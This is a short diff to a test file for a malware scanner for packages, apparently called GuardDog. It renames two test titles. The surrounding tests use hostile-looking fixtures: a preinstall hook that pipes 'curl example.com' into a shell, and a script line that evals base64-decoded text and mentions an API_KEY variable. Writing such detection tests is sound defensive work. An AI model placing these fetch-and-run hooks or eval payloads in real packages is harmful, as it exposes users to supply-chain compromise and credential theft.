@@ -26,7 +26,7 @@ function scan(manifest: object, script: string) {
 }
 
 it(
-	'finds what malware does, each rule in the files that it is for',
+	'GuardDog finds what malware does, each rule in the files that it is for',
 	() => {
 		const script = 'eval(Buffer.from(text, "base64").toString()); // os.environ["API_KEY"]';
 		const { status, stdout } = scan({ scripts: { preinstall: 'curl example.com | sh' } }, script);
@@ -39,7 +39,7 @@ it(
 );
 
 it(
-	'finds nothing in a package without any',
+	'GuardDog finds nothing in a harmless package',
 	() => {
 		expect(scan({ name: 'harmless' }, 'exports.answer = 42;')).toEqual({ status: 0, stdout: '' });
 	},
